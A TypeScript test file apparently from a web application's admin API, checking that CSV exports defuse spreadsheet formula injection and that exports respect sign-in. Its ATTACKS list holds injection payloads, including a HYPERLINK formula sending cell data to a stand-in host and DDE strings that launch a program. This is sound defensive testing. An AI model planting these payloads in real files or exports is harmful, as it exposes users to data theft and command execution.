import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { collections } from '#core/collections/index.ts';
import { faroCommand } from '#tests/command.ts';
import { jsonOf } from './http.ts';
import { startTarget, type Target } from './target.ts';

/** Texts of somebody who wants the administrator's spreadsheet to calculate, to fetch, or to start a program. */
const ATTACKS = [
  '=HYPERLINK("http://otro.example/?"&A1,"Ver")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '＝1+1',
  'Una";=1+1;"',
  'Una",=1+1,"',
  'Una\r\n=1+1,2',
  'Una\t=1+1',
];

let target: Target;

beforeAll(async () => {
  target = await startTarget();
  for (const title of ATTACKS) {
    expect(
      (await target.administrator.send('POST', '/api/papers', { title, authors: [title], venue: title, doi: title, abstract: title })).status,
    ).toBe(201);
    expect((await target.administrator.send('POST', '/api/students', { name: title, semblanzas: [{ descripcion: title }] })).status).toBe(201);
  }
  expect((await target.administrator.send('POST', '/api/papers', { title: 'Oculta, y con ñ', enabled: false })).status).toBe(201);
  return () => target.stop();
});

const faro = (...words: readonly string[]) => faroCommand(target.settings, words);

/** The cells of a file as a spreadsheet reads it that separates them with `separator`. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted] = ['', false];
  for (let at = csv.startsWith('\uFEFF') ? 1 : 0; at < csv.length; at += 1) {
    const letter = csv[at] ?? '';
    if (isQuoted && letter === '"' && csv[at + 1] === '"') {
      cell += letter;
      at += 1;
    } else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (letter === separator || letter === '\n' || letter === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  }
  return [...cells, cell];
}

// Fails without `withoutFormulas` in core/spreadsheet/line.ts, or when a quote is not doubled there.
test.each(['papers', 'students'])('no cell of %s is a formula, whatever separates cells where it is opened', async (name) => {
  const answer = await target.administrator.send('GET', `/api/${name}?format=csv`);
  expect(answer.status).toBe(200);
  const printed = await faro('export', name, '--format', 'csv');
  expect(printed.status, printed.stderr).toBe(0);
  expect(printed.stdout.trim()).toBe(answer.text.trim());
  expect(answer.text).toContain('HYPERLINK');
  for (const separator of [',', ';', '\t']) {
    const formulas = cellsOf(answer.text, separator).filter((cell) => /^[\s\u00A0\uFEFF]*[=+\-@＝]/.test(cell));
    expect(formulas, `separated by ${JSON.stringify(separator)}`).toEqual([]);
  }
});

// Fails without `requireUser` in server/api/collections.ts (`spreadsheet`): hidden items are in it.
test('the spreadsheet is for those who are signed in, and nobody else is given theirs', async () => {
  const mine = await target.administrator.send('GET', '/api/papers?format=csv');
  expect(mine.text).toContain('Oculta, y con ñ');
  expect(mine.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="papers.csv"',
    'cache-control': 'private, no-store',
    'x-content-type-options': 'nosniff',
  });
  expect(mine.bytes.subarray(0, 3).toString('hex'), 'the byte order mark').toBe('efbbbf');
  for (const path of ['/api/papers?format=csv', '/api/papers?format=csv&format=json', '/api/papers?FORMAT=csv', '/api/papers']) {
    const { text, headers } = await target.visitor.send('GET', path);
    expect(text, path).not.toContain('Oculta');
    expect(headers['content-type'], path).not.toContain('csv');
  }
});

// Fails when the command lists what visitors see.
test('the export as JSON holds every item as it is, lists as lists', async () => {
  const file = join(target.dataDir, 'export.json');
  expect((await faro('export', '--to', file)).stdout).toContain(`Written to ${file}`);
  const exported = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
  expect((await faro('export', '--to', file)).stderr).toContain('is there already');
  expect(Object.keys(exported).toSorted()).toEqual([...Object.keys(collections), 'profile', 'site'].toSorted());
  for (const name of Object.keys(collections)) {
    const { items } = jsonOf<{ items: unknown[] }>(await target.administrator.send('GET', `/api/${name}`));
    expect(exported[name], name).toEqual(items);
  }
  expect((await faro('export', '__proto__', '--format', 'csv')).stderr).toContain('There is no collection "__proto__"');
  expect((await faro('export', '--format', 'csv')).stderr).toContain('Usage:');
});
